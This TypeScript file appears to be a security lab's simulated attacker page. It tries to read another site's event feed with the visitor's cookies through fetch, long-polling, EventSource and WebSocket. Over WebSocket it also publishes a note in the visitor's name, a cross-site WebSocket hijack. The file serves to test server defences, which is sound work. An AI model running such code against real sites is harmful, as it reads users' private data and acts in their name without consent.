// The attacker's page: asks another origin for its feed, in all the ways that there are, with the visitor's cookies.
import { known, over, pause, tell } from './tell.ts'

const { target, ways } = known
const PATIENCE_MS = 4000
const CORS = 'nothing: whatever was answered, the browser keeps it from this page (CORS)'

interface Got {
  what: string
  won: boolean
}
const nothing = (what: string): Got => ({ what, won: false })
const got = (event: string): Got => ({ what: `read: ${event}`, won: true })

async function byFetch(path: string): Promise<Got> {
  const url = `${target}/feed/${path}?after=earliest&limit=1`
  const response = await fetch(url, { credentials: 'include', signal: AbortSignal.timeout(PATIENCE_MS) }).catch(
    () => null,
  )
  if (!response) return nothing(CORS)
  const body = (await response.json()) as { events?: object[]; error?: { message: string } }
  const event = body.events?.[0]
  return event ? got(JSON.stringify(event)) : nothing(`${response.status}: ${body.error?.message ?? 'no event'}`)
}

function byEventSource(): Promise<Got> {
  const source = new EventSource(`${target}/feed/sse?after=earliest`, { withCredentials: true })
  return new Promise<Got>((resolve) => {
    source.onmessage = ({ data }) => resolve(got(String(data)))
    source.onerror = () => resolve(nothing(CORS))
    setTimeout(() => resolve(nothing('nothing came')), PATIENCE_MS)
  }).finally(() => source.close())
}

function byWebSocket(): Promise<Got> {
  const socket = new WebSocket(`${target!.replace('https:', 'wss:')}/feed/wss?after=earliest`, 'wirelab.v1')
  let read = ''
  return new Promise<Got>((resolve) => {
    socket.onmessage = ({ data }) => {
      const item = JSON.parse(String(data)) as { id?: string; ack?: { id: string } }
      if (item.ack) resolve(got(`${read}; and published in the name of the visitor: event ${item.ack.id}`))
      if (item.id === undefined || read) return
      read = String(data)
      socket.send(JSON.stringify({ publish: { type: 'note', data: { text: 'The attacker wrote this.' } } }))
    }
    socket.onclose = ({ code }) => resolve(read ? got(read) : nothing(`refused; a page is told no more than ${code}`))
    setTimeout(() => resolve(read ? got(read) : nothing('nothing came')), PATIENCE_MS)
  }).finally(() => socket.close())
}

const all: Record<string, () => Promise<Got>> = {
  polling: () => byFetch('polling'),
  'long-polling': () => byFetch('long-polling'),
  sse: byEventSource,
  wss: byWebSocket,
}

for (const way of ways!.split(' ')) {
  const { what, won } = await all[way]!()
  await tell(`${way}: ${what}`, won)
}
await pause(100)
await over()
